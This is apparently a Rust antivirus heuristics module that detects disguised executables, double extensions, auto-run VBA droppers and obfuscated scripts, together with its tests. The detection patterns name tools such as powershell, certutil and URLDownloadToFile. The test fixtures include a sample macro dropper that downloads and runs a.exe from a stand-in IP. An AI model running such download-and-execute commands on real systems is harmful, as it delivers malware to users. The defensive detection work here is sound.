//! Heuristic detection (SPEC §6 "Heuristics", the reference product's
//! "Bloodhound"): rules that recognise how malware is dressed up to be
//! opened, rather than which malware it is, so they catch samples no
//! signature knows yet. The Heuristic level picks the rules: each rule (or
//! each strength of its evidence) fires from a level up, and the higher
//! levels add weaker evidence, finding more at the risk of false positives.
//!
//! | detection | from | evidence |
//! |---|---|---|
//! | `Heuristic.ExecutableDisguised` | Low | a real PE/ELF/Mach-O file named or typed as a document, picture, media or archive |
//! | `Heuristic.DoubleExtension` | Low | a program extension right after a document one (`a.pdf.exe`, `a.jpg   .scr`), or hidden by a right-to-left override |
//! | `Heuristic.MacroAutoRun` | Medium | VBA with an auto-run entry point and a call that runs or downloads something |
//! | `Heuristic.MacroSuspicious` | High | VBA with only an auto-run entry point, or only a download call |
//! | `Heuristic.ObfuscatedScript` | Medium / High | a script with encoded or chopped-up code (see `obfuscation` for the signals) |
//!
//! Work is bounded whatever the file: only the first `MAX_SCAN_BYTES` are
//! read (the last, for a macro module, whose source is at the end), every
//! pattern is a `regex` one (linear time), and macro source comes through
//! [`vba::source`], itself bounded. Heuristics never fail: a file they do
//! not understand has no detections.

use super::{Detection, ScanFailure, Scanner, Target, vba};
use crate::mime::detect::FileType;
use crate::mime::names;
use regex::Regex;
use std::sync::LazyLock;

/// Bytes of a file the heuristics read: attachments that matter (scripts,
/// macros, droppers) are small, and a few MB bound the cost of a huge one.
const MAX_SCAN_BYTES: usize = 4 << 20;

/// How eagerly heuristics flag files (SPEC §6 Heuristic level).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, serde::Deserialize, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Level {
    /// No heuristic detections at all.
    Off,
    /// Only disguises that legitimate mail practically never shows.
    Low,
    /// Adds macros that run on open and reach out, and the clearest
    /// obfuscation: the SPEC default.
    #[default]
    Medium,
    /// Adds weaker evidence: finds more, and more false positives.
    High,
}

/// The heuristic scanner at one [`Level`], one of the chain's scanners.
#[derive(Debug, Clone, Copy)]
pub struct Heuristics {
    level: Level,
}

impl Heuristics {
    /// A scanner applying the rules enabled at `level` (from the config's
    /// Heuristic level).
    pub fn new(level: Level) -> Heuristics {
        Heuristics { level }
    }

    /// The rules `target` breaks at this scanner's level.
    fn rules_broken(&self, target: &Target<'_>) -> Vec<Rule> {
        if self.level == Level::Off {
            return Vec::new();
        }
        let head = target.data.get(..MAX_SCAN_BYTES).unwrap_or(target.data);
        let forms: Vec<String> = target.names.iter().flat_map(|name| names::forms(name)).collect();
        let mut found: Vec<(Rule, Level)> = Vec::new();
        if disguised_executable(target, head, &forms) {
            found.push((Rule::ExecutableDisguised, Level::Low));
        }
        if double_extension(target.names, &forms) {
            found.push((Rule::DoubleExtension, Level::Low));
        }
        let module = forms.iter().any(|form| in_vba_storage(form));
        let code = if module {
            // The compressed source ends the stream: keep the end.
            vba::source(target.data.get(target.data.len().saturating_sub(MAX_SCAN_BYTES)..).unwrap_or(target.data))
        } else {
            text(target.detected, head)
        };
        if let Some(code) = code {
            if module || has_extension(&forms, VBA_EXTENSIONS) || VBA_HEADER.is_match(&code) {
                found.extend(macro_verdict(&code));
            }
            if module || has_extension(&forms, SCRIPT_EXTENSIONS) || SCRIPT_MARKER.is_match(&code) {
                found.extend(obfuscation(&code).map(|level| (Rule::ObfuscatedScript, level)));
            }
        }
        found.into_iter().filter(|&(_, from)| from <= self.level).map(|(rule, _)| rule).collect()
    }
}

impl Scanner for Heuristics {
    fn name(&self) -> &str {
        "heuristics"
    }

    fn scan(&self, target: &Target<'_>) -> Result<Vec<Detection>, ScanFailure> {
        Ok(self
            .rules_broken(target)
            .into_iter()
            .map(|rule| Detection { name: rule.name().to_string(), scanner: self.name().to_string() })
            .collect())
    }
}

/// What the heuristics report, one detection name each.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Rule {
    ExecutableDisguised,
    DoubleExtension,
    MacroAutoRun,
    MacroSuspicious,
    ObfuscatedScript,
}

impl Rule {
    fn name(self) -> &'static str {
        match self {
            Rule::ExecutableDisguised => "Heuristic.ExecutableDisguised",
            Rule::DoubleExtension => "Heuristic.DoubleExtension",
            Rule::MacroAutoRun => "Heuristic.MacroAutoRun",
            Rule::MacroSuspicious => "Heuristic.MacroSuspicious",
            Rule::ObfuscatedScript => "Heuristic.ObfuscatedScript",
        }
    }
}

// ---------------------------------------------------------------------------
// Names and disguises

/// Extensions Windows runs, or hands to a script host or installer, when
/// the file is opened: what a disguise hides.
const PROGRAM_EXTENSIONS: &str = "exe scr com pif bat cmd vbs vbe js jse wsf wsh hta lnk cpl msi msp ps1 psm1 jar reg scf sct chm msc gadget application";

/// Extensions of what a reader takes for data rather than a program
/// (documents, text, pictures, media, archives): what a disguise shows.
const DOCUMENT_EXTENSIONS: &str = "pdf doc docx docm dot dotx rtf odt xls xlsx xlsm xlsb ods csv ppt pptx pptm pps ppsx odp txt log xml htm html eml msg \
     jpg jpeg png gif bmp tif tiff ico svg webp heic mp3 wav wma mp4 avi mov wmv mkv mpg mpeg zip rar 7z gz tar";

/// Declared MIME types of documents, pictures and media. `text/plain` is
/// left out: it is RFC 2045's default for a part without a Content-Type,
/// so it says nothing about what the sender claimed.
const DOCUMENT_TYPES: &[&str] = &[
    "image/",
    "audio/",
    "video/",
    "text/html",
    "text/csv",
    "text/rtf",
    "application/pdf",
    "application/rtf",
    "application/msword",
    "application/vnd.ms-excel",
    "application/vnd.ms-powerpoint",
    "application/vnd.openxmlformats-officedocument.",
    "application/vnd.oasis.opendocument.",
];

/// Right-to-left override, embedding and isolate: after one, the rest of
/// the name displays reversed, so `invoice<U+202E>fdp.exe` shows as
/// `invoiceexe.pdf`.
const RIGHT_TO_LEFT: [char; 3] = ['\u{202B}', '\u{202E}', '\u{2067}'];

/// The last extension of a cleaned name form (after its last dot).
fn extension(form: &str) -> Option<&str> {
    form.rsplit_once('.').map(|(_, extension)| extension)
}

/// `extension` is one of the space-separated `extensions`.
fn listed(extensions: &str, extension: &str) -> bool {
    extensions.split_ascii_whitespace().any(|e| e == extension)
}

/// Some name form ends in one of the space-separated `extensions`.
fn has_extension(forms: &[String], extensions: &str) -> bool {
    forms.iter().any(|form| extension(form).is_some_and(|e| listed(extensions, e)))
}

/// `ExecutableDisguised` (Low): program content whose claimed name or
/// declared type says it is a document or picture. Mail clients pick the
/// program to open a file by its name, so this is mostly aimed at people and
/// gateways that trust names, and legitimate mail has no reason for it. The
/// content must have a real executable header, not just the two letters
/// `MZ` that a text may begin with.
fn disguised_executable(target: &Target<'_>, head: &[u8], forms: &[String]) -> bool {
    executable_header(target.detected, head)
        && (has_extension(forms, DOCUMENT_EXTENSIONS)
            || DOCUMENT_TYPES.iter().any(|t| target.declared_type.starts_with(t)))
}

/// `data` starts like a loadable program: a DOS stub pointing to a PE (or
/// older NE/LE/LX) header, an ELF identification of a known class and byte
/// order, or a Mach-O magic (already strict in `detect`).
fn executable_header(detected: FileType, data: &[u8]) -> bool {
    match detected {
        FileType::Pe => {
            let header = data.get(0x3C..).and_then(<[u8]>::first_chunk::<4>).map(|b| u32::from_le_bytes(*b));
            let header = header.and_then(|at| data.get(usize::try_from(at).ok()?..));
            header.is_some_and(|h| [b"PE", b"NE", b"LE", b"LX"].iter().any(|sig| h.starts_with(*sig)))
        }
        FileType::Elf => data.get(4..6).is_some_and(|id| matches!(id, [1 | 2, 1 | 2])),
        FileType::MachO => true,
        _ => false,
    }
}

/// `DoubleExtension` (Low): a program extension right after a document one,
/// the trick for mail clients and file managers that hide the last
/// extension (`invoice.pdf.exe` shows as `invoice.pdf`). Spaces before the
/// last dot push the real extension out of view (`photo.jpg      .scr`) and
/// count as nothing; `names::forms` has already removed invisible
/// characters and the trailing dots and spaces Windows ignores. A
/// right-to-left override in the name of a program also counts: what is
/// displayed is not the extension that decides (`report<U+202E>fdp.exe`).
fn double_extension(raw_names: &[String], forms: &[String]) -> bool {
    let reordered = raw_names.iter().any(|name| name.contains(RIGHT_TO_LEFT));
    forms.iter().any(|form| match form.rsplit_once('.') {
        Some((stem, last)) if listed(PROGRAM_EXTENSIONS, last) => {
            reordered || extension(stem.trim_end()).is_some_and(|e| listed(DOCUMENT_EXTENSIONS, e))
        }
        _ => false,
    })
}

// ---------------------------------------------------------------------------
// Macros and scripts

/// Extensions of VBA as text: exported modules, and VBScript, which is the
/// same language and the same calls.
const VBA_EXTENSIONS: &str = "bas cls frm vba vbs";

/// Extensions of scripts Windows runs when they are opened, and of the
/// files that hold them.
const SCRIPT_EXTENSIONS: &str = "js jse vbs vbe wsf wsh hta sct ps1 psm1 bat cmd";

/// The first line of every module Office exports or stores.
static VBA_HEADER: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\battribute\s+vb_name\b").expect("the VBA header pattern compiles"));

/// Script in a file without a script's name: an HTML-like `<script>`
/// element (HTML, HTA, WSF, SVG), Microsoft Script Encoder output, or a
/// batch file's usual first line.
static SCRIPT_MARKER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)<script\b|#@~\^|\A\s*@echo\s+off\b").expect("the script marker pattern compiles")
});

/// Procedures Office runs by itself: Word's `AutoOpen`/`AutoExec`/
/// `AutoClose`/`AutoNew`/`AutoExit` and `Document_Open`/`_Close`/`_New`,
/// Excel's `Auto_Open`/`Auto_Close` and `Workbook_Open`/`_Activate`/
/// `_BeforeClose`/`_Deactivate`, and the events ActiveX controls in a
/// document raise while it loads (`InkPicture1_Painted`, `Frame1_Layout`,
/// `TextBox1_GotFocus`; controls keep their numbered default names).
static AUTO_RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?imx)
        ^[\ \t]* (?: (?:public|private|friend) [\ \t]+ )? (?: static [\ \t]+ )? (?:sub|function) [\ \t]+
        (?: auto_?(?:open|close|exec|exit|new)
          | document_?(?:open|close|new|beforeclose)
          | workbook_(?:open|activate|beforeclose|deactivate)
          | [a-z]+[0-9]+_(?:painted|layout|gotfocus)
        ) \b
        "#,
    )
    .expect("the auto-run pattern compiles")
});

/// Calls that start a program: VBA's `Shell`, the WSH and Explorer shell
/// objects, `ShellExecute`, `CallByName` and `MacScript` (indirect calls),
/// WinAPI and WMI process creation, the command interpreters and the
/// Windows tools malware borrows to fetch and run payloads, and
/// `CreateObject` with a computed class name or `GetObject("new:<CLSID>")`,
/// which hide which object is made. A `CreateObject` of a named, harmless
/// class (`Scripting.FileSystemObject`) and `Environ` are everyday macro
/// code and do not count.
static EXECUTES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?ix)
        \bshell(?:execute(?:ex)?)?\b | \bwscript\b | \bcallbyname\b | \bmacscript\b
        | \bwinexec\b | \bcreateprocess[aw]?\b | \bwin32_process\b
        | \bpowershell\b | \bpwsh\b | \bcmd(?:\.exe)?"?\s+/[ck]\b | \bmshta\b
        | \brundll32\b | \bregsvr32\b | \bcertutil\b | \bbitsadmin\b
        | \bcreateobject\s*\(\s*[^"\s)] | \bgetobject\s*\(\s*"new:
        "#,
    )
    .expect("the execution pattern compiles")
});

/// Calls that fetch from the network or write fetched bytes to disk:
/// `URLDownloadToFile`, the XMLHTTP and WinHTTP objects, WinINet,
/// `ADODB.Stream`, and PowerShell's web client and cmdlets.
static DOWNLOADS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?ix)
        \burldownloadtofile[aw]?\b | xmlhttp | \bwinhttp | \binternet(?:openurl|readfile)[aw]?\b
        | \badodb\.stream\b | \bnet\.webclient\b | \bdownload(?:file|string|data)\b
        | \bstart-bitstransfer\b | \binvoke-webrequest\b
        "#,
    )
    .expect("the download pattern compiles")
});

/// `MacroAutoRun` (Medium): code that runs as the document opens and
/// starts or fetches something, the shape of nearly every macro dropper.
/// `MacroSuspicious` (High): either half alone, which legitimate templates
/// and add-ins also show.
fn macro_verdict(code: &str) -> Option<(Rule, Level)> {
    let auto_run = AUTO_RUN.is_match(code);
    let downloads = DOWNLOADS.is_match(code);
    if auto_run && (downloads || EXECUTES.is_match(code)) {
        Some((Rule::MacroAutoRun, Level::Medium))
    } else if auto_run || downloads {
        Some((Rule::MacroSuspicious, Level::High))
    } else {
        None
    }
}

/// Calls that run strings as code or commands, or decode strings for that.
static EVALUATES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?ix)
        \beval\s*\( | \bexecute(?:global)?\b | \bnew\s+function\s*\( | \binvoke-expression\b | \biex\b
        | \bdocument\.write | \bactivexobject\b | \bcreateobject\b | \bwscript\b | \bshell\b | \bpowershell\b
        | \batob\s*\( | \bunescape\s*\( | \bfrombase64string\b
        "#,
    )
    .expect("the evaluation pattern compiles")
});

/// One character built from its code: JavaScript's `String.fromCharCode`,
/// VB's `Chr`/`ChrW`/`ChrB` (with or without `$`), PowerShell's `[char]`.
static CHAR_CODE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bfromcharcode\s*\(|\bchr[wb]?\$?\s*\(|\[char\]\s*(?:0x)?[0-9a-f]")
        .expect("the char-code pattern compiles")
});

/// One `String.fromCharCode` call with at least 24 numeric arguments.
static CHAR_CODE_LIST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bfromcharcode\s*\(\s*(?:(?:0x)?[0-9a-f]+\s*,\s*){23,}(?:0x)?[0-9a-f]+")
        .expect("the char-code list pattern compiles")
});

/// A quoted piece of one or two characters (at least one a letter or
/// digit) followed by a concatenation: `"po" + "we" + "rs"`, `"Sh" & "el"`.
static TINY_PIECE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?:"(?:[[:alnum:]][^"\r\n]?|[^"\r\n][[:alnum:]])"|'(?:[[:alnum:]][^'\r\n]?|[^'\r\n][[:alnum:]])')\s*[+&]"#,
    )
    .expect("the tiny piece pattern compiles")
});

/// PowerShell given its script base64-encoded on the command line
/// (`-EncodedCommand`, or any prefix of it, or `-ec`).
static ENCODED_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:^|[\s"'])[-/]e[a-z]*\s+["']?[a-z0-9+/]{100,}"#).expect("the encoded command pattern compiles")
});

/// An encoded literal handed straight to an evaluator:
/// `eval(atob("…"))`, `Execute Decode("…")`, `iex ("…")`.
static EVALUATED_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(?:eval|execute(?:global)?|invoke-expression|iex)\b[^"'\r\n]{0,40}["'][a-z0-9+/=%\\]{256,}"#)
        .expect("the evaluated literal pattern compiles")
});

/// Microsoft Script Encoder output (`.jse`, `.vbe`, or inside a page).
static SCRIPT_ENCODED: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"#@~\^[A-Za-z0-9+/]{6}==").expect("the script encoder pattern compiles"));

/// How close (bytes between matches) char-code calls must follow each
/// other to count as one chain: `Chr(104) & Chr(116)` leaves 7, padded
/// arithmetic like `Chr(CLng("&H68") Xor 7) & ` about 25.
const CHAR_CODE_GAP: usize = 40;
/// Char codes in one chain or call: from this many at High...
const CHAR_CODES_HIGH: usize = 24;
/// ...and from this many at Medium.
const CHAR_CODES_MEDIUM: usize = 100;
/// How close tiny pieces must follow each other: only spaces between.
const TINY_PIECE_GAP: usize = 4;
/// Tiny pieces in one chain: from this many at High...
const TINY_PIECES_HIGH: usize = 40;
/// ...and from this many at Medium.
const TINY_PIECES_MEDIUM: usize = 200;
/// An unbroken run of base64 or hex characters this long (an embedded
/// payload) counts at High in code that also runs or decodes strings. On
/// its own it does not: JavaScript carries data that way too (rustdoc's
/// search indexes, WebAssembly modules: 83 of the 2,033 measured files).
const ENCODED_RUN: usize = 1024;

/// `ObfuscatedScript`: the lowest level at which `code` (a script or macro)
/// counts as heavily obfuscated, if any. Legitimate code is written to be
/// read; these are the marks of code written not to be. Thresholds were
/// measured on the scripts and pages shipped with Rust's and Node's
/// documentation and tools on a Debian system (2,033 `.js`, 73,360 HTML,
/// 417 SVG and a few batch and PowerShell files, minified bundles among
/// them): none is flagged at any level; the longest chains found there are
/// 5 char codes and 2 tiny pieces.
///
/// Medium, where legitimate code has no reason to go: Script Encoder
/// output, PowerShell's `-EncodedCommand` with a script, an encoded literal
/// of 256+ characters passed straight to `eval`/`Execute`/`iex`, 100+ char
/// codes or 200+ tiny string pieces in a row.
///
/// High: 24+ char codes or 40+ tiny pieces in a row, or an encoded run of
/// 1024+ characters in code that runs or decodes strings.
fn obfuscation(code: &str) -> Option<Level> {
    if SCRIPT_ENCODED.is_match(code) || ENCODED_COMMAND.is_match(code) || EVALUATED_LITERAL.is_match(code) {
        return Some(Level::Medium);
    }
    let char_codes = longest_chain(&CHAR_CODE, code, CHAR_CODE_GAP)
        .max(CHAR_CODE_LIST.find_iter(code).map(|m| m.as_str().matches(',').count() + 1).max().unwrap_or(0));
    let tiny_pieces = longest_chain(&TINY_PIECE, code, TINY_PIECE_GAP);
    if char_codes >= CHAR_CODES_MEDIUM || tiny_pieces >= TINY_PIECES_MEDIUM {
        return Some(Level::Medium);
    }
    let high = char_codes >= CHAR_CODES_HIGH
        || tiny_pieces >= TINY_PIECES_HIGH
        || longest_encoded_run(code) >= ENCODED_RUN && EVALUATES.is_match(code);
    high.then_some(Level::High)
}

/// The most matches of `pattern` in `code` that follow each other with at
/// most `gap` bytes between one match's end and the next one's start.
fn longest_chain(pattern: &Regex, code: &str, gap: usize) -> usize {
    let mut longest = 0;
    let mut chain = 0;
    let mut last_end: Option<usize> = None;
    for found in pattern.find_iter(code) {
        chain = match last_end {
            Some(end) if found.start() - end <= gap => chain + 1,
            _ => 1,
        };
        longest = longest.max(chain);
        last_end = Some(found.end());
    }
    longest
}

/// Length of the longest unbroken run of base64 characters (hex is a
/// subset) in `code`.
fn longest_encoded_run(code: &str) -> usize {
    code.as_bytes()
        .split(|&b| !(b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=')))
        .map(<[u8]>::len)
        .max()
        .unwrap_or(0)
}

/// The text of a file that is text: UTF-8 or a code page (invalid bytes
/// replaced; what the rules look for is ASCII), or UTF-16LE with its byte
/// order mark, as Windows editors and PowerShell save scripts.
fn text(detected: FileType, data: &[u8]) -> Option<String> {
    if let Some(utf16) = data.strip_prefix(&[0xFF, 0xFE]) {
        let units = utf16.as_chunks::<2>().0.iter().map(|&pair| u16::from_le_bytes(pair));
        Some(char::decode_utf16(units).map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER)).collect())
    } else if detected == FileType::Text {
        Some(String::from_utf8_lossy(data).into_owned())
    } else {
        None
    }
}

/// A stream stored in a VBA project's `VBA` storage (`VBA/ThisDocument`,
/// `Macros/VBA/Module1`, `_VBA_PROJECT_CUR/VBA/Sheet1`): a module, whose
/// source is compressed.
fn in_vba_storage(form: &str) -> bool {
    form.rsplit(['/', '\\']).nth(1) == Some("vba")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mime::detect::detect;
    use crate::scan::vba::tests::module_stream;

    const LEVELS: [Level; 4] = [Level::Off, Level::Low, Level::Medium, Level::High];

    /// The detections for one file at `level`.
    fn scan(level: Level, data: &[u8], names: &[&str], declared_type: &str) -> Vec<String> {
        let names: Vec<String> = names.iter().map(|n| n.to_string()).collect();
        let target = Target { data, detected: detect(data), path: "2:test", names: &names, declared_type };
        let found = Heuristics::new(level).scan(&target).expect("heuristics never fail");
        assert!(found.iter().all(|d| d.scanner == "heuristics"));
        found.into_iter().map(|d| d.name).collect()
    }

    /// The lowest level at which `rule` is reported for the file, checking
    /// that every higher level reports it too.
    fn fires_from(rule: Rule, data: &[u8], names: &[&str], declared_type: &str) -> Option<Level> {
        let reported: Vec<bool> =
            LEVELS.iter().map(|&l| scan(l, data, names, declared_type).contains(&rule.name().to_string())).collect();
        let first = reported.iter().position(|&r| r)?;
        assert!(reported[first..].iter().all(|&r| r), "{rule:?} is reported at every level from the first");
        Some(LEVELS[first])
    }

    /// A minimal PE file: DOS header pointing to a `PE\0\0` header.
    fn pe() -> Vec<u8> {
        let mut pe = b"MZ".to_vec();
        pe.resize(0x3C, 0x90);
        pe.extend_from_slice(&0x40u32.to_le_bytes());
        pe.extend_from_slice(b"PE\0\0\x4c\x01\x03\0");
        pe.resize(512, 0);
        pe
    }

    #[test]
    fn level_setting() {
        assert_eq!(Level::default(), Level::Medium);
        #[derive(serde::Deserialize)]
        struct Settings {
            level: Level,
        }
        let parsed: Settings = toml::from_str("level = \"high\"").unwrap();
        assert_eq!(parsed.level, Level::High);
        assert!(toml::from_str::<Settings>("level = \"extreme\"").is_err());
        assert!(Level::Off < Level::Low && Level::Low < Level::Medium && Level::Medium < Level::High);
    }

    #[test]
    fn executable_disguised() {
        let rule = Rule::ExecutableDisguised;
        assert_eq!(fires_from(rule, &pe(), &["invoice.pdf"], "application/octet-stream"), Some(Level::Low));
        assert_eq!(fires_from(rule, &pe(), &["Photo.JPG "], "image/jpeg"), Some(Level::Low));
        assert_eq!(fires_from(rule, &pe(), &["scan0042"], "application/pdf"), Some(Level::Low), "by declared type");
        let elf = [b"\x7FELF\x02\x01\x01".as_slice(), &[0; 57]].concat();
        assert_eq!(fires_from(rule, &elf, &["notes.txt"], ""), Some(Level::Low));
        let macho = [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1, 3, 0, 0, 0];
        assert_eq!(fires_from(rule, &macho, &["song.mp3"], ""), Some(Level::Low));

        assert_eq!(fires_from(rule, &pe(), &["setup.exe"], "application/octet-stream"), None);
        assert_eq!(fires_from(rule, &pe(), &[], "text/plain"), None, "text/plain is only the default type");
        let text = b"MZ Electronics: quarterly figures attached.\r\n";
        assert_eq!(fires_from(rule, text, &["report.txt"], "text/plain"), None, "MZ without a PE header");
        let pdf = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n";
        assert!(scan(Level::High, pdf, &["invoice.pdf"], "application/pdf").is_empty(), "a real PDF");
    }

    #[test]
    fn double_extension() {
        let rule = Rule::DoubleExtension;
        let data = b"anything";
        for name in [
            "report.pdf.exe",
            "Invoice.PDF.Exe",
            "photo.jpg   .scr",
            "invoice.pdf        .exe",
            "scan.doc.js. . ",
            "archive.zip.lnk",
            "docs/statement.xlsx.vbs",
            "report\u{202E}fdp.exe",
            "invoice.pdf\u{200B}.exe",
        ] {
            assert_eq!(fires_from(rule, data, &[name], ""), Some(Level::Low), "{name:?}");
        }
        for name in
            ["setup.exe", "report.pdf", "archive.tar.gz", "tool-1.2.exe", "my.notes.txt", "report\u{202E}fdp.txt"]
        {
            assert_eq!(fires_from(rule, data, &[name], ""), None, "{name:?}");
        }
        assert_eq!(fires_from(rule, data, &["invoice.pdf", "invoice.pdf.exe"], ""), Some(Level::Low), "any name");
        assert!(scan(Level::Off, &pe(), &["report.pdf.exe"], "application/pdf").is_empty(), "Off finds nothing");
    }

    const DROPPER: &str = "Attribute VB_Name = \"ThisDocument\"\r\n\
        Attribute VB_Base = \"1Normal.ThisDocument\"\r\n\
        Private Sub Document_Open()\r\n\
        \x20   Dim r As Long\r\n\
        \x20   r = Shell(\"cmd /c powershell -w hidden -c iwr http://203.0.113.9/a.exe -o a.exe; .\\a.exe\", 0)\r\n\
        End Sub\r\n";

    const BENIGN: &str = "Attribute VB_Name = \"ThisDocument\"\r\n\
        Private Sub Document_Open()\r\n\
        \x20   Dim fso As Object\r\n\
        \x20   Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n\
        \x20   If fso.FileExists(Environ(\"APPDATA\") & \"\\letterhead.ini\") Then MsgBox \"Welcome back\"\r\n\
        End Sub\r\n";

    #[test]
    fn macro_auto_run() {
        let (auto_run, suspicious) = (Rule::MacroAutoRun, Rule::MacroSuspicious);
        let stream = module_stream(DROPPER.as_bytes());
        for name in ["VBA/ThisDocument", "Macros/VBA/ThisDocument"] {
            assert_eq!(fires_from(auto_run, &stream, &[name], ""), Some(Level::Medium), "{name}");
            assert_eq!(fires_from(suspicious, &stream, &[name], ""), None, "one detection per macro");
        }
        assert_eq!(fires_from(auto_run, &stream, &["WordDocument"], ""), None, "not a module stream");
        assert_eq!(fires_from(auto_run, DROPPER.as_bytes(), &["Module1.bas"], ""), Some(Level::Medium), "plain text");

        let excel = "Private Sub Workbook_Open()\r\n\
            \x20   Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
            \x20   x.Open \"GET\", \"http://203.0.113.9/p\", False\r\n\
            End Sub\r\n";
        let stream = module_stream(excel.as_bytes());
        assert_eq!(fires_from(auto_run, &stream, &["_VBA_PROJECT_CUR/VBA/ThisWorkbook"], ""), Some(Level::Medium));

        let stream = module_stream(BENIGN.as_bytes());
        assert_eq!(fires_from(auto_run, &stream, &["VBA/ThisDocument"], ""), None, "benign auto-run macro");
        assert_eq!(fires_from(suspicious, &stream, &["VBA/ThisDocument"], ""), Some(Level::High), "auto-run alone");

        let download = "Attribute VB_Name = \"Module1\"\r\nSub Fetch()\r\n\
            \x20   URLDownloadToFile 0, \"http://203.0.113.9/a.exe\", \"a.exe\", 0, 0\r\nEnd Sub\r\n";
        assert_eq!(
            fires_from(suspicious, &module_stream(download.as_bytes()), &["VBA/Module1"], ""),
            Some(Level::High)
        );

        let manual = "Attribute VB_Name = \"Module1\"\r\nSub Backup()\r\n    Shell \"xcopy C:\\data D:\\backup /s\"\r\nEnd Sub\r\n";
        for rule in [auto_run, suspicious] {
            assert_eq!(fires_from(rule, &module_stream(manual.as_bytes()), &["VBA/Module1"], ""), None, "no auto-run");
            assert_eq!(fires_from(rule, DROPPER.replace("Attribute", "Remark").as_bytes(), &[], ""), None, "mail text");
        }
    }

    /// `eval` of a string built from `n` `String.fromCharCode` calls.
    fn char_code_js(n: usize) -> String {
        let payload = "new ActiveXObject('WScript.Shell').Run('calc.exe');".repeat(n / 50 + 1);
        let pieces: Vec<String> = payload.bytes().take(n).map(|b| format!("String.fromCharCode({b})")).collect();
        format!("var a = 1;\r\neval({});\r\n", pieces.join("+"))
    }

    const NORMAL_JS: &str = "// Toggle the details panel.\n\
        function toggle(id) {\n\
        \x20 var el = document.getElementById(id);\n\
        \x20 if (!el) { return; }\n\
        \x20 el.style.display = el.style.display === 'none' ? 'block' : 'none';\n\
        \x20 var label = 'Details for ' + id + ': ' + String.fromCharCode(8594);\n\
        \x20 document.title = label + \" (\" + new Date().toISOString() + \")\";\n\
        }\n\
        window.addEventListener('load', function () { toggle('more'); });\n";

    #[test]
    fn obfuscated_script() {
        let rule = Rule::ObfuscatedScript;
        assert_eq!(fires_from(rule, char_code_js(200).as_bytes(), &["invoice.js"], ""), Some(Level::Medium));
        assert_eq!(fires_from(rule, char_code_js(30).as_bytes(), &["invoice.js"], ""), Some(Level::High));
        assert_eq!(fires_from(rule, char_code_js(10).as_bytes(), &["invoice.js"], ""), None);
        assert_eq!(fires_from(rule, NORMAL_JS.as_bytes(), &["menu.js"], ""), None, "a normal script");
        assert_eq!(fires_from(rule, char_code_js(200).as_bytes(), &["notes.txt"], ""), None, "not a script");
        let page = format!("<html><body><script>{}</script></body></html>", char_code_js(200));
        assert_eq!(fires_from(rule, page.as_bytes(), &[], "text/html"), Some(Level::Medium), "script in a page");

        let utf16: Vec<u8> =
            [0xFF, 0xFE].into_iter().chain(char_code_js(200).encode_utf16().flat_map(u16::to_le_bytes)).collect();
        assert_eq!(fires_from(rule, &utf16, &["invoice.js"], ""), Some(Level::Medium), "UTF-16 with a BOM");

        let vba_chr = format!("Sub AutoOpen()\r\n    x = {}\r\nEnd Sub\r\n", ["Chr(112)"; 40].join(" & "));
        assert_eq!(fires_from(rule, &module_stream(vba_chr.as_bytes()), &["VBA/NewMacros"], ""), Some(Level::High));

        let pieces: String = (0..60).map(|i| format!("\"{}\" + ", ["po", "we", "rs", "he", "ll"][i % 5])).collect();
        let chopped = format!("var c = {pieces}\"\";\nWScript.CreateObject('WScript.Shell').Run(c);\n");
        assert_eq!(fires_from(rule, chopped.as_bytes(), &["order.js"], ""), Some(Level::High));

        let blob =
            "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0h"
                .repeat(20);
        let powershell = format!("@echo off\r\npowershell.exe -NoProfile -EncodedCommand {}\r\n", &blob[..400]);
        assert_eq!(fires_from(rule, powershell.as_bytes(), &["run.bat"], ""), Some(Level::Medium));
        let vbs = format!("Execute(Base64Decode(\"{}\"))\r\n", &blob[..400]);
        assert_eq!(fires_from(rule, vbs.as_bytes(), &["update.vbs"], ""), Some(Level::Medium));
        let smuggled = format!("var p = \"{blob}\";\nvar b = atob(p);\n");
        assert_eq!(fires_from(rule, smuggled.as_bytes(), &["view.js"], ""), Some(Level::High));
        let data_only = format!("var searchIndex = \"{blob}\";\n");
        assert_eq!(fires_from(rule, data_only.as_bytes(), &["search-index.js"], ""), None, "data, not obfuscation");
        let encoded = b"#@~^XQAAAA==\\ko$K6,J2MWsPz^bYP+0-w2DkxP'r-DUPb@#@&ZAAAAA==^#~@";
        assert_eq!(fires_from(rule, encoded, &["readme.vbe"], ""), Some(Level::Medium), "Script Encoder");
    }

    #[test]
    fn anything_else_is_clean() {
        for data in [&b""[..], b"\x00\x01\x02garbage\xFF", b"PK\x03\x04truncated zip", &module_stream(b"\x00\x01")] {
            for names in [&[][..], &["VBA/Module1"], &["a.js"], &["x.bas"]] {
                assert!(scan(Level::High, data, names, "").is_empty(), "{names:?}");
            }
        }
    }
}
